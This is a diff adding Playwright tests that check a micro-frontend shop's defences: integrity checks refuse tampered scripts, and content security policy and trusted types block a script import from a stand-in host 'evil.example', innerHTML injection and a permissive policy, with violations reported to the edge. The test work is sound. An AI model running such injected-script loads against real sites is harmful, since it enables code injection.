@@ -1,0 +1,108 @@
+import type { Page } from '@playwright/test';
+import { expect, test } from '../fixtures.ts';
+
+/** Answers matching scripts with one letter more than was released. */
+async function tamper(page: Page, pattern: RegExp): Promise<void> {
+  await page.route(pattern, async (route) => {
+    const response = await route.fetch();
+    await route.fulfill({ response, body: `${await response.text()}\n` });
+  });
+}
+
+test.describe('a script that is not the released one', () => {
+  test.use({ expectedNoise: [/./] });
+
+  test('is refused where a slot needs it, and the slot says so', async ({
+    page,
+    product,
+    shop,
+  }) => {
+    await tamper(page, /\/_mfe\/cart\/.*AddToCartButton.*\.js$/);
+    await product.open('tidal-300');
+
+    await expect(shop.tryAgain.first()).toBeVisible();
+    await expect(product.name).toHaveText('Tidal 300');
+    await expect(product.quantity).toBeVisible();
+  });
+
+  test('is refused as a remote that comes later', async ({ page, home, shop }) => {
+    await tamper(page, /\/_mfe\/support\/.*\/remoteEntry[^/]*\.js$/);
+    await home.open();
+    await shop.openChat.click();
+
+    await expect(shop.tryAgain).toBeVisible();
+    await expect(shop.main).toBeVisible();
+  });
+
+  test('is refused as the page itself; what was drawn stays readable', async ({ page, home }) => {
+    const refused = page.waitForEvent('console', (message) =>
+      /digest in the 'integrity' attribute.*\/_mfe\/shell\//.test(message.text()),
+    );
+    await tamper(page, /\/_mfe\/shell\/.*\/index[^/]*\.js$/);
+    await home.open();
+    await refused;
+
+    await expect(home.bestsellers).toHaveCount(4);
+    await expect(page.locator('[data-live]')).toHaveCount(0);
+  });
+});
+
+test.describe('what a page may not do is blocked and fails this suite', () => {
+  test.use({ expectedNoise: [/./], expectedViolations: [/./] });
+
+  for (const [what, kind, act] of [
+    [
+      'running a script of this origin that no release lists',
+      /^integrity .*favicon/,
+      () => import(`${location.origin}/favicon.svg`),
+    ],
+    [
+      'running a script from elsewhere',
+      /^script-src-elem https:\/\/evil\.example/,
+      () => import('https://evil.example/a.js'.slice()),
+    ],
+    [
+      'turning text into markup',
+      /^require-trusted-types-for trusted-types-sink Element innerHTML/,
+      async () => {
+        document.body.innerHTML = '<p>hello</p>';
+      },
+    ],
+    [
+      'making a policy that lets everything through',
+      /^trusted-types trusted-types-policy anything/,
+      async () => {
+        const { trustedTypes } = globalThis as unknown as {
+          trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
+        };
+        trustedTypes.createPolicy('anything', { createHTML: (html: string) => html });
+      },
+    ],
+  ] as const) {
+    test(what, async ({ page, home, blocked }) => {
+      await home.open();
+      expect(blocked).toEqual([]);
+
+      const failure = await page.evaluate(act).then(
+        () => null,
+        (error: Error) => error.message,
+      );
+
+      expect(failure).not.toBeNull();
+      await expect.poll(() => blocked.join('\n')).toMatch(kind);
+      expect(blocked).toHaveLength(1);
+    });
+  }
+
+  test('the edge hears of it', async ({ page, home }) => {
+    const heard = async (): Promise<number> => {
+      const { violations } = await (await page.request.get('/healthz')).json();
+      return violations['script-src-elem https://evil.example/a.js'] ?? 0;
+    };
+    await home.open();
+    const before = await heard();
+    await page.evaluate(() => import('https://evil.example/a.js'.slice()).catch(() => 'blocked'));
+
+    await expect.poll(heard).toBeGreaterThan(before);
+  });
+});
